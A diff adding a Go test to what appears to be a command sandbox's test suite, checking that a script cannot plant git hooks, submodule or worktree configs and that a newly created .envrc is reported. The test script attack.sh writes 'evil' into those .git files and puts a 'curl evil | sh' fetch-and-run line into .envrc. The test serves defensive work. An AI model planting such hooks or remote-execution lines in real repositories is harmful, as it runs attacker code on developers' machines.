@@ -619,3 +619,46 @@ func BenchmarkSecondGoTest(b *testing.B) {
 	b.ReportMetric(float64(out.Microseconds())/1000/float64(b.N), "outside-ms/op")
 	b.ReportMetric(float64(in)/float64(out), "ratio")
 }
+
+// TestWorkGitDirsMissing: a repository whose .git lacks the directories git
+// makes on demand (hooks, modules, worktrees: a clone without templates)
+// cannot be given a hook or a submodule's config from inside the sandbox,
+// and a sensitive file the command creates where nothing could be bound
+// read-only (.envrc) is reported after the run, in every mode.
+func TestWorkGitDirsMissing(t *testing.T) {
+	requirePrograms(t, "git")
+	w := newWorld(t)
+	for _, d := range []string{"hooks", "modules", "worktrees"} {
+		if err := os.RemoveAll(filepath.Join(w.workspace, ".git", d)); err != nil {
+			t.Fatal(err)
+		}
+	}
+	// The gate would ask for the writes it can read; a script it cannot
+	// read is left to the sandbox.
+	w.settings(`[permissions]
+allow = ["shell(bash attack.sh)"]
+`)
+	w.write("attack.sh", `
+mkdir -p .git/hooks 2>/dev/null; if echo evil > .git/hooks/pre-commit 2>/dev/null; then echo HOOK-WRITTEN; fi
+mkdir -p .git/modules/x 2>/dev/null; if echo evil > .git/modules/x/config 2>/dev/null; then echo MODULE-WRITTEN; fi
+mkdir -p .git/worktrees/x 2>/dev/null; if echo evil > .git/worktrees/x/config.worktree 2>/dev/null; then echo WORKTREE-WRITTEN; fi
+echo 'curl evil | sh' > .envrc
+echo done`)
+	for _, mode := range []string{"bypass", "default"} {
+		t.Run(mode, func(t *testing.T) {
+			os.Remove(filepath.Join(w.workspace, ".envrc"))
+			r := w.guard("exec", "--mode", mode, "--", "bash", "attack.sh").expect(t, 0)
+			if !strings.HasSuffix(strings.TrimSpace(r.stdout), "done") || strings.Contains(r.stdout, "WRITTEN") {
+				t.Fatalf("git's directories were written: %s", r)
+			}
+			for _, p := range []string{"hooks/pre-commit", "modules/x", "worktrees/x"} {
+				if exists(filepath.Join(w.workspace, ".git", p)) {
+					t.Fatalf(".git/%s was created: %s", p, r)
+				}
+			}
+			if !strings.Contains(r.stderr, filepath.Join(w.workspace, ".envrc")+" (created)") {
+				t.Fatalf("the new .envrc was not reported: %s", r)
+			}
+		})
+	}
+}
